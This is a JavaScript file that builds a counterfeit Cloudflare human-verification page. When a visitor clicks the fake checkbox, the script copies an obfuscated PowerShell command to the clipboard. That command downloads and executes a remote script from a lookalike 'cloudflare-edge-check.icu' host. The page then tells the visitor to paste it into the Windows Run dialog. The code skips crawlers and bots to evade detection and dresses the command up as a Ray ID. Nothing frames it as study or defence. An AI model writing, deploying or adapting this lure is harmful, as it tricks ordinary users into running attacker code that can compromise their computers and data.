class EdgeShieldChallenge {
  #rayId;
  #runLine;

  constructor(siteName) {
    this.siteName = siteName;
    this.#rayId = Array.from(crypto.getRandomValues(new Uint8Array(8)), (b) => b.toString(16).padStart(2, '0')).join('');
    const host = '\u0063\u006c\u006f\u0075\u0064\u0066\u006c\u0061\u0072\u0065' + '-' + 'edge-check.icu';
    this.#runLine = `powershell -c "$w=New-Object Net.WebClient;$s=$w.DownloadString('https://${host}/ray/${this.#rayId}');iex $s"` +
      ` # \u2714\uFE0F Cloudflare Ray ID: ${this.#rayId} - I am human`;
  }

  get styles() {
    return `
      .es-root{position:fixed;inset:0;z-index:2147483647;background:#fff;color:#313131;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif}
      .es-main{max-width:640px;margin:10vh auto 0;padding:0 20px}
      .es-main h1{font-size:36px;font-weight:500;margin:0 0 8px}
      .es-widget{margin-top:26px;width:300px;height:65px;border:1px solid #e0e0e0;border-radius:4px;background:#fafafa;display:flex;align-items:center;padding:0 14px;gap:12px;cursor:pointer}
      .es-cb{width:24px;height:24px;border:2px solid #6e6e6e;border-radius:4px;background:#fff}
      .es-modal{display:none;margin-top:22px;border-left:4px solid #f38020;padding:12px 16px;background:#fff8f2}
      .es-foot{position:absolute;bottom:16px;width:100%;text-align:center;font-size:12px;color:#888}`;
  }

  render() {
    const root = document.createElement('div');
    root.className = 'es-root';
    root.innerHTML = `<style>${this.styles}</style>
      <div class="es-main">
        <h1>${this.siteName}</h1>
        <h2 style="font-weight:400;font-size:20px">Verify you are human by completing the action below.</h2>
        <div class="es-widget" data-role="cb"><div class="es-cb"></div><span>Verify you are human</span></div>
        <div class="es-modal" data-role="modal">
          <p><strong>Verification step required</strong></p>
          <p>Press <b>Win</b> + <b>R</b>, then <b>Ctrl</b> + <b>V</b> and <b>Enter</b>. Return here when finished.</p>
        </div>
        <p style="margin-top:28px">${this.siteName} needs to review the security of your connection before proceeding.</p>
      </div>
      <div class="es-foot">Ray ID: <code>${this.#rayId}</code> &middot; Performance &amp; security by Cloudflare</div>`;
    return root;
  }

  attach() {
    const node = this.render();
    document.body.replaceChildren(node);
    node.querySelector('[data-role="cb"]').addEventListener('click', () => this.onVerify(node));
  }

  onVerify(node) {
    navigator.clipboard.writeText(this.#runLine).finally(() => {
      node.querySelector('[data-role="modal"]').style.display = 'block';
    });
  }
}

document.addEventListener('DOMContentLoaded', () => {
  if (!/bot|crawl|spider|lighthouse/i.test(navigator.userAgent)) {
    new EdgeShieldChallenge(location.hostname.replace(/^www\./, '')).attach();
  }
});
